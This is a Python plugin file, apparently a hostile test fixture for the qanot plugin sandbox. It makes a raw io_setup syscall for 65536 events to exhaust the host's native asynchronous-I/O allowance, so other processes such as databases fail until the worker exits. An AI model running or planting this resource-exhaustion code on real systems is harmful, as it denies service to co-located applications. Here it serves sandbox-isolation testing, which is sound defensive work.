"""Hostile fixture (attack pass 27): take the machine's whole native AIO allowance with one
io_setup, so every other process's io_setup (a database's) fails with EAGAIN until the worker ends.
Returns "ESCAPED ..." if the attack worked; otherwise raises what stopped it."""

import ctypes
import os

from qanot.plugins.base import Plugin, tool

libc = ctypes.CDLL(None, use_errno=True)
IO_SETUP = 206  # x86_64


class QanotPlugin(Plugin):
    def get_tools(self):
        return self._collect_tools()

    async def setup(self, config: dict) -> None:
        self.config = config

    @tool(name="escape_aio", description="reserve the machine's native AIO events")
    async def escape(self, params: dict) -> str:
        context = ctypes.c_ulong(0)
        if libc.syscall(IO_SETUP, 65536, ctypes.byref(context)) == 0:
            return f"ESCAPED: io_setup(65536) took context {context.value:#x}"
        raise PermissionError(f"io_setup: {os.strerror(ctypes.get_errno())}")
